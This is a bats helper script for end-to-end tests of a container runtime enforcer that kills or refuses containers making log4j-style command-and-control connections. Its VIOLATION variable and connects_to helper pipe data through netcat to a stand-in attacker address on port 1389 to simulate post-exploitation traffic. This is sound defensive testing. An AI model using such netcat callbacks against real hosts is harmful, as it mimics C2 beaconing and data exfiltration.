# SPDX-License-Identifier: Apache-2.0
# shellcheck shell=bash
#
# What the stories share. A file has one scratch, scenery and root file system;
# each of its tests has its own service folders and containers.

bats_require_minimum_version 1.5.0

E2E_DIR=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
# shellcheck source=tests/harness/scratch.sh
source "$E2E_DIR/../harness/scratch.sh"
# shellcheck source=tests/harness/netns.sh
source "$E2E_DIR/../harness/netns.sh"
# shellcheck source=tests/harness/engine_runc.sh
source "$E2E_DIR/../harness/engine_runc.sh"
# shellcheck source=tests/harness/service.sh
source "$E2E_DIR/../harness/service.sh"

export C2_RULE="Malicious C2 IPs or domains exploiting log4j"
export BLOCK_POLICY="Block log4j Post-Exploitation"
# What fulfils the rule once, and goes on.
export VIOLATION="echo hello | nc -w 3 $ATTACKER4 1389; exec sleep 300"

# For setup_file.
story_open() {
  scratch_open
  netns_scenery
  export ROOTFS=$SCRATCH/rootfs ATTACKER_LOG=$SCRATCH/attacker.jsonl
  rootfs_make "$ROOTFS"
  attacker_listen 1389 "$ATTACKER_LOG"
  mkdir "$SCRATCH/rules"
  install -m 0644 "$REPO_DIR"/examples/log4shell/*.rules.yaml \
    "$REPO_DIR/examples/log4shell/policies.yaml" "$SCRATCH/rules/"
  # The stories have no sink but where they name one.
  sed -i '/^ *notify:/d' "$SCRATCH/rules/policies.yaml"
  # Refuses, and lets the container live: its own error can then be read.
  cat >"$SCRATCH/rules/refuse.yaml" <<END
policies:
  - name: Refuse
    rules: ["$C2_RULE"]
    block: true
    response: none
END
  cat >"$SCRATCH/rules/pause.yaml" <<END
policies:
  - name: Pause
    rules: ["$C2_RULE"]
    response: pause
END
  export RULES="[$SCRATCH/rules/log4j.rules.yaml,
    $SCRATCH/rules/site-indicators.rules.yaml]"
  export KILL_POLICY=$SCRATCH/rules/policies.yaml
  export REFUSE_POLICY=$SCRATCH/rules/refuse.yaml
  export PAUSE_POLICY=$SCRATCH/rules/pause.yaml
}

# For teardown_file.
story_close() { scratch_close; }

# service POLICIES [LINE...]: this test's service, running, with the LINEs in
# its bailiff.yaml.
service() {
  service_prepare "$@"
  service_start
}
service_prepare() {
  local policies=$1
  shift
  service_configure "svc$BATS_TEST_NUMBER" "$RULES" "$policies" "$@"
}

# contained ID COMMAND...: runs it in a container, through the wrapper, in the
# foreground.
contained() {
  local id=$1
  bundle_make "$SCRATCH/bundle-$id" "$ROOTFS" "$@"
  bailiff_runc run --bundle "$SCRATCH/bundle-$id" "$id"
}

# contained_detached ID COMMAND...: the same, and leaves it running.
contained_detached() {
  bundle_make "$SCRATCH/bundle-$1" "$ROOTFS" "$@"
  started bailiff_runc "$1"
}
# started RUNC ID: has it run the bundle of that id, which goes on.
started() {
  "$1" run --detach --bundle "$SCRATCH/bundle-$2" "$2" \
    </dev/null >"$SCRATCH/$2.out" 2>&1 3>&-
}

# violates ID: a container that violates the rule once and goes on.
violates() { contained_detached "$1" sh -c "$VIOLATION"; }

# runtime_state ID STATE
runtime_state() { [[ $(plain_runc state "$1" | jq -r .status) == "$2" ]]; }

# What a container says that connects to ADDRESS: "reached", or nc's error.
# shellcheck disable=SC2016 # the container's shell expands
connects_to() {
  printf '%s\0' sh -c 'echo hello | nc -w 10 "$0" 1389 && echo reached' "$1"
}

# contained_connect ID ADDRESS
contained_connect() {
  local command
  mapfile -d '' -t command < <(connects_to "$2")
  contained "$1" "${command[@]}"
}

# reaches CONTAINER ADDRESS, is_refused CONTAINER ADDRESS: both by what a process
# says that connects there, so neither is true of a container that is gone.
connects() {
  local command
  mapfile -d '' -t command < <(connects_to "$2")
  bailiff_runc exec "$1" "${command[@]}"
}
reaches() {
  run connects "$@"
  says reached
}
is_refused() {
  run connects "$@"
  says "Operation not permitted"
}

# For teardown: ends what the test left running, and the service. Fails when a
# container that is gone is still attached to.
story_quiet() {
  local id
  for id in $(plain_runc list -q 2>/dev/null); do
    bailiff_runc delete --force "$id" || true
  done
  service_stop || true
  local pins
  for pins in "$SCRATCH/bpffs/${SVC##*/}"/{,foreign/}links; do
    [[ -d $pins && $(find "$pins" -mindepth 1) ]] || continue
    find "$pins" -mindepth 1
    return 1
  done
}

# Nothing of a container is left: pins, records, cgroups.
nothing_left_of() {
  local id=$1
  local -a found
  mapfile -t found < <(
    find "$SCRATCH/bpffs" "$SVC/run/containers" -name "*$id*" 2>/dev/null
    run_cgroups "$RUN_NAME/$id"
  )
  ((${#found[@]} == 0)) || {
    printf 'left: %s\n' "${found[@]}"
    return 1
  }
}

# Under KILL_POLICY.
exploited_is_killed() {
  run -137 contained exploited sh -c "$VIOLATION"
  (($(attacker_packets) == 0))
  event "$C2_RULE" ".bailiff.policy == \"$BLOCK_POLICY\"
    and .bailiff.verdict == \"denied\" and .bailiff.outcome == \"killed\"
    and .bailiff.enforcement == \"kernel\"
    and .bailiff.container.id == \"exploited\"
    and .bailiff.container.image == \"registry.example/shop:1.4\""
  nothing_left_of exploited
}

# event RULE [JQ-CONDITION]: waits for such an event.
event() {
  wait_until 30 "an event of '$1' with ${2:-any content}" \
    service_event ".rule == \"$1\" and (${2:-true})" || {
    echo "the events there are:"
    service_events
    echo "bailiffd's log:"
    cat "$SVC/log"
    return 1
  }
}

# answer METHOD PATH [curl arguments...]: the body, and the status on a line of
# its own; fails from 400 on.
answer() { api "$@" --write-out '\n%{http_code}' 2>/dev/null; }

# metric PATTERN: a line of the metrics matches.
metric() { api GET /metrics | grep -- "$1" >/dev/null; }

# says TEXT...: each is in what 'run' caught.
says() {
  local text
  # shellcheck disable=SC2154 # bats' own
  for text in "$@"; do
    [[ $output == *"$text"* ]] || {
      printf "'%s' is not in:\n%s\n" "$text" "$output"
      return 1
    }
  done
}

# one_line_from PROGRAM: of the caught lines exactly one is PROGRAM's.
one_line_from() {
  local count
  count=$(grep -c "$1: " <<<"$output" || true)
  ((count == 1)) || {
    printf "%s lines of '%s' in:\n%s\n" "$count" "$1" "$output"
    return 1
  }
}
